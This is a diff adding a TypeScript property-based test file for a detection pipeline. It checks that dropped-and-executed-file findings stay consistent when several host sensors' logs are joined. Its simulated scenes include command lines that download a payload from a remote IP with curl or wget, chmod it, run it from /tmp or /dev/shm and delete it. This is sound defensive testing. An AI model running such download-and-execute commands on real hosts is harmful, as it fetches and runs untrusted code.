@@ -1,0 +1,377 @@
+import type { ActedEvent, ArtifactLife, Finding, TelemetryEvent } from "@limpid/core";
+import { an0056 } from "@limpid/detect";
+import { type JoinCounts, Joining, sensorOf } from "@limpid/pipeline";
+import fc from "fast-check";
+import { describe, expect, it, test } from "vitest";
+import { Scene } from "../packages/detect/src/testing/scene.ts";
+import { barePipeline } from "./support/pipeline.ts";
+import { offBy, type SensorView, toTheSecond, VIEWS } from "./support/sensor-views.ts";
+
+/** Each step of a story takes a moment, as it does on a host. */
+class Ticking extends Scene {
+  override emit(event: Parameters<Scene["emit"]>[0]): string {
+    this.now += 3;
+    return super.emit(event);
+  }
+}
+
+const STORIES: Readonly<Record<string, (scene: Scene) => void>> = {
+  "a web server's shell downloads and runs": (scene) => {
+    const server = scene.process({ image: "/usr/sbin/nginx" });
+    const shell = server.fork().exec("/usr/bin/dash", ["sh", "-c", "curl -o /tmp/.x/agent http://203.0.113.7/a"]);
+    shell.fork().exec("/usr/bin/curl", "curl -o /tmp/.x/agent http://203.0.113.7/a").create("/tmp/.x/agent").exit();
+    scene.wait(40);
+    shell.fork().exec("/usr/bin/chmod", "chmod +x /tmp/.x/agent").chmod("/tmp/.x/agent").exit();
+    shell.fork().exec("/tmp/.x/agent").exit();
+  },
+  "it is renamed, runs twice and is removed": (scene) => {
+    const python = scene.process({ image: "/usr/sbin/cron" }).fork().exec("/usr/bin/python3.11", "python3 -m x");
+    python.create("/dev/shm/.part").rename("/dev/shm/.part", "/dev/shm/.d").chmod("/dev/shm/.d");
+    python.fork().exec("/dev/shm/.d", "/dev/shm/.d one").exit();
+    scene.wait(1700);
+    python.fork().exec("/dev/shm/.d", "/dev/shm/.d two").exit();
+    scene.wait(400);
+    python.unlink("/dev/shm/.d");
+  },
+  "two files of one name, one after the other": (scene) => {
+    const shell = scene.process({ image: "/usr/sbin/sshd" }).fork().exec("/usr/bin/bash", "bash");
+    const drop = () => {
+      shell
+        .fork()
+        .exec("/usr/bin/wget", "wget -O /var/tmp/a http://h/a")
+        .create("/var/tmp/a")
+        .chmod("/var/tmp/a")
+        .exit();
+      shell.fork().exec("/var/tmp/a").exit();
+      shell.fork().exec("/usr/bin/rm", "rm /var/tmp/a").unlink("/var/tmp/a").exit();
+    };
+    drop();
+    scene.wait(4000);
+    drop();
+  },
+  "one process runs three programs in a row": (scene) => {
+    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork();
+    shell
+      .exec("/usr/bin/env", "env x=1 sh")
+      .exec("/usr/bin/dash", "sh -c y")
+      .exec("/usr/bin/curl", "curl -O http://h/z");
+    shell.create("/tmp/z").chmod("/tmp/z");
+    scene.wait(900);
+    shell.exec("/tmp/z").exit();
+  },
+};
+
+function tell(story: (scene: Scene) => void): readonly ActedEvent[] {
+  const scene = new Ticking();
+  story(scene);
+  return scene.events;
+}
+
+interface Told {
+  readonly source: string;
+  readonly events: readonly TelemetryEvent[];
+}
+
+interface Judged {
+  readonly lives: readonly object[];
+  readonly findings: readonly Finding[];
+  readonly counts: JoinCounts;
+}
+
+/** As `hunt` reads several sources: a few events at a time, of the one that stands furthest behind. */
+function judge(told: readonly Told[], atOnce = 3): Judged {
+  const findings: Finding[] = [];
+  const lives: object[] = [];
+  const judged = an0056();
+  const every = { ...judged, candidate: (life: ArtifactLife) => lives.push(whole(life)) < 0 };
+  const pipeline = barePipeline((finding) => findings.push(finding), { analytics: [judged, every] });
+  const ways = new Map<string, (event: TelemetryEvent) => void>();
+  const joining = new Joining((event, { name }) => ways.get(name)?.(event));
+  const sensors = told
+    .map(({ source, events }) => ({ sensor: sensorOf(source), events }))
+    .sort((one, other) => one.sensor.rank - other.sensor.rank)
+    .map(({ sensor, events }) => {
+      ways.set(sensor.name, pipeline.observeFrom(["linux"], sensor));
+      return { joined: joining.open(sensor), events, read: 0 };
+    });
+  for (;;) {
+    const open = sensors.filter(({ joined }) => joined.reached() < Number.POSITIVE_INFINITY);
+    const behind = open.sort((one, other) => one.joined.reached() - other.joined.reached())[0];
+    if (behind === undefined) break;
+    for (const event of behind.events.slice(behind.read, behind.read + atOnce)) behind.joined.take(event);
+    behind.read += atOnce;
+    if (behind.read >= behind.events.length) behind.joined.end();
+  }
+  pipeline.end();
+  findings.sort((one, other) => (one.firstSeen + one.id < other.firstSeen + other.id ? -1 : 1));
+  return { lives, findings, counts: joining.counts };
+}
+
+/** All that a life says of a file, whatever it would be judged. */
+const whole = (life: ArtifactLife) => ({
+  path: life.path,
+  before: life.previousPaths,
+  born: [life.bornAt, life.birthEvent, life.birthSeen, life.inode, life.generation],
+  creator: [life.creator.basis, life.creator.actor?.run.image, life.creator.actor?.process.pid, life.creator.event],
+  executions: life.executions.map(({ at, argv, by }) => [at, argv, by.process.pid]),
+  touches: life.touches.map(({ kind, at, event, by }) => [kind, at, event, by.run.image]),
+  gone: [life.removedAt, life.nameTakenAt],
+});
+
+const told = (view: SensorView, events: readonly ActedEvent[]): Told => ({
+  source: view.source,
+  events: view.tell(events),
+});
+
+/** What must be the same whoever told it too. */
+const essence = ({ findings }: Judged) =>
+  findings.map(({ id, artifact, priority, creator, lineage, executions, timeline, firstSeen }) => ({
+    id,
+    path: artifact.path,
+    before: artifact.previousPaths,
+    priority,
+    firstSeen,
+    creator: [creator.basis, creator.image, creator.argv],
+    lineage: lineage.map(({ image }) => image),
+    executions: executions.map(({ at, argv }) => [at, argv]),
+    timeline: timeline.map(({ what, event }) => [what, event]),
+  }));
+
+const PAIRS: readonly { readonly first: SensorView; readonly second: SensorView; readonly whole?: boolean }[] = [
+  { first: VIEWS.auditd, second: VIEWS.laurel },
+  { first: VIEWS.auditd, second: VIEWS.osquery, whole: true },
+  { first: VIEWS.auditd, second: VIEWS.sysmon },
+  { first: VIEWS.auditd, second: VIEWS.falco },
+  { first: VIEWS.auditd, second: VIEWS.tetragon },
+  { first: VIEWS.auditd, second: VIEWS.ecs },
+  { first: VIEWS.auditd, second: VIEWS.ocsf },
+  { first: VIEWS.eslogger, second: VIEWS.santa },
+  { first: VIEWS.eslogger, second: VIEWS.osquery, whole: true },
+];
+
+describe.each(PAIRS)("$first.source and $second.source of one host", ({ first, second, whole = false }) => {
+  describe.each(Object.entries(STORIES))("%s", (_name, story) => {
+    const events = tell(story);
+    const one = told(first, events);
+    const other = told(second, events);
+    const alone = essence(judge([one]));
+    const stamped = (skew: number, jitter: readonly number[]): Told => ({
+      source: other.source,
+      events: whole ? toTheSecond(offBy(other.events, skew, jitter)) : offBy(other.events, skew, jitter),
+    });
+
+    it("gives the findings of the first alone, whatever the stamps of the second within the tolerance", () => {
+      expect(alone.length).toBeGreaterThan(0);
+      fc.assert(
+        fc.property(
+          fc.integer({ min: -1400, max: 1400 }),
+          fc.array(fc.integer({ min: 0, max: 400 }), { maxLength: 7 }),
+          fc.integer({ min: 1, max: 40 }),
+          fc.boolean(),
+          (skew, jitter, atOnce, turned) => {
+            const pair = [one, stamped(skew, jitter)];
+            const both = judge(turned ? pair.reverse() : pair, atOnce);
+            expect(essence(both)).toEqual(alone);
+            expect(both.counts).toMatchObject({ disputed: 0, late: 0, early: 0 });
+          },
+        ),
+        { numRuns: 40 },
+      );
+    });
+  });
+});
+
+describe("any story", () => {
+  const PATHS = ["/tmp/a", "/tmp/b", "/var/tmp/.c"] as const;
+  const step = fc.record({
+    what: fc.constantFrom("spawn", "exec", "create", "open", "chmod", "rename", "unlink", "run", "exit", "wait"),
+    who: fc.nat(5),
+    path: fc.constantFrom(...PATHS),
+    to: fc.constantFrom(...PATHS),
+    ms: fc.integer({ min: 1, max: 2500 }),
+  });
+
+  const storyOf = (steps: readonly (typeof step extends fc.Arbitrary<infer T> ? T : never)[]) => (scene: Scene) => {
+    const first = scene.process({ image: "/usr/sbin/cron" }).fork().exec("/usr/bin/dash", "sh -c x");
+    const shells = [first];
+    const gone = new Set<unknown>();
+    for (const [index, { what, who, path, to, ms }] of steps.entries()) {
+      const actor = shells[who % shells.length] ?? first;
+      const there = scene.files.has(path);
+      if (what === "wait") scene.wait(ms);
+      if (gone.has(actor)) continue;
+      if (what === "spawn") shells.push(actor.fork().exec(`/usr/bin/tool-${who}`, `tool ${index}`));
+      else if (what === "exec") actor.exec(`/usr/bin/next-${who}`, `next ${index}`);
+      else if (what === "create" && !there) actor.create(path);
+      else if (what === "open" && there) actor.open(path);
+      else if (what === "chmod" && there) actor.chmod(path);
+      else if (what === "rename" && there && path !== to) actor.rename(path, to);
+      else if (what === "unlink" && there) actor.unlink(path);
+      else if (what === "run" && there) actor.fork().exec(path, `${path} ${index}`).exit();
+      else if (what === "exit" && actor !== first) {
+        actor.exit();
+        gone.add(actor);
+      }
+    }
+  };
+
+  const cases = PAIRS.map(({ first, second, whole = false }) => ({
+    name: `${first.source} ${second.source}`,
+    first,
+    second,
+    whole,
+  }));
+  test.each(cases)("$name: a second sensor changes no life of the first", ({ first, second, whole }) => {
+    fc.assert(
+      fc.property(fc.array(step, { maxLength: 40 }), fc.integer({ min: -1400, max: 1400 }), (steps, skew) => {
+        const events = tell(storyOf(steps));
+        const one = told(first, events);
+        const moved = offBy(second.tell(events), skew);
+        const other = { source: second.source, events: whole ? toTheSecond(moved) : moved };
+        expect(judge([one, other]).lives).toEqual(judge([one]).lives);
+      }),
+      { numRuns: 150 },
+    );
+  });
+});
+
+const VIEW = Object.values(VIEWS);
+
+describe("all sensors at once", () => {
+  test.each(Object.entries(STORIES))("%s: one finding each, in whatever order the logs are named", (_name, story) => {
+    const events = tell(story);
+    const logs = VIEW.map((view, index) => ({ source: view.source, events: offBy(view.tell(events), index * 7) }));
+    const linux = logs
+      .filter(({ source }) => source !== "eslogger" && source !== "santa")
+      .map((log) => (log.source === "osquery" ? { ...log, events: toTheSecond(log.events) } : log));
+    const alone = judge([told(VIEWS.auditd, events)]);
+    const all = judge(linux);
+    expect(all.lives).toEqual(alone.lives);
+    expect(essence(all)).toEqual(essence(alone));
+    expect(judge([...linux].reverse())).toEqual(all);
+  });
+});
+
+describe("one sensor tells of processes, the other of files", () => {
+  test.each(Object.entries(STORIES))("%s", (_name, story) => {
+    const events = tell(story);
+    const processes = events.filter(({ kind }) => kind.startsWith("process."));
+    const files = events.filter(({ kind }) => !kind.startsWith("process."));
+    const both = judge([told(VIEWS.auditd, processes), told(VIEWS.falco, files)]);
+    const path = (judged: Judged) =>
+      essence(judged).map(({ path, creator, executions, lineage }) => ({ path, creator, executions, lineage }));
+    expect(path(both)).toEqual(path(judge([told(VIEWS.auditd, events)])));
+  });
+});
+
+/** The event, of a process that bears another pid than it was told with. */
+function underPid(event: ActedEvent, from = 0, to = 0): ActedEvent {
+  const named = event.kind === "process.forked" && event.child === from ? { ...event, child: to } : event;
+  return event.process.pid === from ? { ...named, process: { ...event.process, pid: to } } : named;
+}
+
+describe("what looks alike and is not", () => {
+  const drop = (scene: Scene) => {
+    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
+    shell.fork().exec("/usr/bin/curl", "curl -o /tmp/a http://h/a").create("/tmp/a").chmod("/tmp/a").exit();
+    return shell;
+  };
+
+  it("two runs of one program under one pid, told by one sensor, stay two; the other one missed the first", () => {
+    const pids: number[] = [];
+    const events = tell((scene) => {
+      const shell = drop(scene);
+      pids.push(shell.fork().exec("/tmp/a", "/tmp/a").exit().pid);
+      scene.wait(5);
+      pids.push(shell.fork().exec("/tmp/a", "/tmp/a").exit().pid);
+    }).map((event) => underPid(event, pids[1], pids[0]));
+    const second = VIEWS.sysmon.tell(events);
+    const first = second.findIndex(
+      ({ kind, ...event }) => kind === "process.executed" && "image" in event && event.image === "/tmp/a",
+    );
+    const both = judge([
+      told(VIEWS.auditd, events),
+      { source: "sysmon-linux", events: second.filter((_event, at) => at !== first) },
+    ]);
+    expect(both.findings.map(({ executions }) => executions.length)).toEqual([2]);
+    expect(new Set(both.findings[0]?.executions.map(({ process }) => process)).size).toBe(2);
+  });
+
+  it("the same on two hosts is two", () => {
+    const events = tell((scene) => drop(scene).fork().exec("/tmp/a", "/tmp/a").exit());
+    const elsewhere = VIEWS.sysmon.tell(events).map((event) => ({ ...event, host: "other" }));
+    const both = judge([told(VIEWS.auditd, events), { source: "sysmon-linux", events: elsewhere }]);
+    expect(both.findings.map(({ host }) => host).sort()).toEqual(["host", "other"]);
+    expect(both.counts.again).toBe(0);
+  });
+
+  it("a file that one sensor saw and one that the other saw, under one name an hour later, are two", () => {
+    const events = tell((scene) => {
+      drop(scene).fork().exec("/tmp/a", "/tmp/a").exit();
+      scene.process({ image: "/usr/sbin/nginx" }).unlink("/tmp/a");
+      scene.wait(3_600_000);
+      drop(scene).fork().exec("/tmp/a", "/tmp/a").exit();
+    });
+    const later = events.findIndex(({ kind }) => kind === "file.removed") + 1;
+    const both = judge([told(VIEWS.auditd, events.slice(0, later)), told(VIEWS.ecs, events.slice(later))]);
+    expect(both.findings.map(({ executions }) => executions.length)).toEqual([1, 1]);
+  });
+});
+
+describe("what one sensor adds", () => {
+  it("a hash that one knows stands in the finding whose file the other one knows, with both ids in its timeline", () => {
+    const events = tell(STORIES["a web server's shell downloads and runs"] ?? (() => undefined));
+    const [finding] = judge([told(VIEWS.auditd, events), told(VIEWS.ecs, events)]).findings;
+    expect(finding?.artifact).toMatchObject({ path: "/tmp/.x/agent", sha256: "5".repeat(64) });
+    const created = finding?.timeline.find(({ what }) => what === "created");
+    expect(created?.alsoToldBy).toEqual([`ecs:${created?.event}`]);
+    expect(finding?.timeline.filter(({ what }) => what === "executed")).toHaveLength(1);
+  });
+
+  it("where they name different programs for one execution, the more trusted one is believed, and it is said", () => {
+    const events = tell(STORIES["a web server's shell downloads and runs"] ?? (() => undefined));
+    const misled = VIEWS.falco.tell(events).map((event) =>
+      event.kind === "process.executed" && event.image === "/usr/bin/curl"
+        ? {
+            ...event,
+            image: "/usr/bin/logger",
+            file: { ...event.file, path: "/usr/bin/logger" },
+            argv: ["logger", "hello"],
+            process: { ...event.process, image: "/usr/bin/logger" },
+          }
+        : event,
+    );
+    const { findings, counts } = judge([told(VIEWS.auditd, events), { source: "falco", events: misled }]);
+    expect(counts.disputed).toBe(1);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]?.creator.image).toBe("/usr/bin/curl");
+    expect(findings[0]?.missing.find(({ id }) => id === "sensors-disagree")?.explanation).toMatch(/logger.*curl/);
+  });
+});
+
+describe("what cannot be joined", () => {
+  it("a sensor whose clock is an hour off is told of all the same, and nothing is lost", () => {
+    const events = tell(STORIES["a web server's shell downloads and runs"] ?? (() => undefined));
+    const off = offBy(VIEWS.sysmon.tell(events), 3_600_000);
+    const { counts, findings } = judge([told(VIEWS.auditd, events), { source: "sysmon-linux", events: off }]);
+    expect(counts).toMatchObject({ told: events.length + off.length, again: 0, disputed: 0 });
+    expect(findings.length).toBeGreaterThanOrEqual(1);
+  });
+
+  it("two logs of hosts one after the other are counted as late, and give what each gives alone", () => {
+    const events = tell(STORIES["a web server's shell downloads and runs"] ?? (() => undefined));
+    const host = (name: string, from: readonly TelemetryEvent[]) => from.map((event) => ({ ...event, host: name }));
+    const auditd = [
+      ...host("one", offBy(events, 60_000)),
+      ...host("one", offBy(events, 120_000)),
+      ...host("two", events),
+    ];
+    const falco = host("one", offBy(VIEWS.falco.tell(events), 120_000));
+    const { counts, findings } = judge([
+      { source: "auditd", events: auditd },
+      { source: "falco", events: falco },
+    ]);
+    expect(findings.map(({ host: name }) => name).sort()).toEqual(["one", "one", "two"]);
+    expect(counts.late).toBeGreaterThan(0);
+  });
+});
